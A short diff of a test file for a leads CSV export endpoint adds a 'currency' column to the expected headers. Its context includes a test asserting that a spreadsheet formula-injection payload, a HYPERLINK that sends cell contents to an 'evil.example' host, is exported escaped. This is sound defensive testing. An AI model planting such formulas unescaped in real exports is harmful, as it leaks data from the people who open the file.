@@ -335,7 +335,7 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     );
     expect(response.headers["cache-control"]).toBe("no-store");
     const lines = response.body.trimEnd().split("\n");
-    expect(lines[0]).toBe("id,date,status,assignee,name,email,company,phone,service,budget,message");
+    expect(lines[0]).toBe("id,date,status,assignee,name,email,company,phone,service,budget,currency,message");
     // 61 won leads, one of them with a line break in its message (quoted, on two lines).
     expect(lines).toHaveLength(1 + 61 + 1);
     expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
@@ -345,7 +345,7 @@ describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
     expect(response.body).not.toMatch(/(^|,)[=@+-]/m);
 
     const empty = await as(app, sam).get("/api/team/leads/export.csv?status=spam");
-    expect(empty.body).toBe("id,date,status,assignee,name,email,company,phone,service,budget,message\n");
+    expect(empty.body).toBe("id,date,status,assignee,name,email,company,phone,service,budget,currency,message\n");
     const events = await app.database.db
       .select()
       .from(auditEvents)
